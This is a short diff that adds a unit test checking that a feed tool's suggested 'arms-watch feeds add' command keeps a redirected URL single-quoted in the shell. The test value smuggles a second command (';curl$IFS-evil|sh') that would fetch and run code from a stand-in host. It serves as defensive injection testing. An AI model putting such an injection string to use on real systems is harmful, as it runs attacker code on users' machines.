@@ -804,6 +804,14 @@ describe('check', () => {
     expect(await feeds.all()).toEqual([]);
   });
 
+  test('names the command to copy so that an address which a site redirects to stays an address in a shell', async () => {
+    const checked = { ...(await check('/feed')), movedTo: 'https://news.example/?a=1&b;curl$IFS-evil|sh' };
+
+    expect(checkedPage(checked)).toContain(
+      "To watch it: arms-watch feeds add 'https://news.example/?a=1&b;curl$IFS-evil|sh'\n",
+    );
+  });
+
   test('finds the feed that a page names', async () => {
     expect(await check('/named')).toMatchObject({ url: at('/feed'), foundBy: at('/named') });
     expect(paths).toEqual(['/named', '/feed', '/robots.txt']);
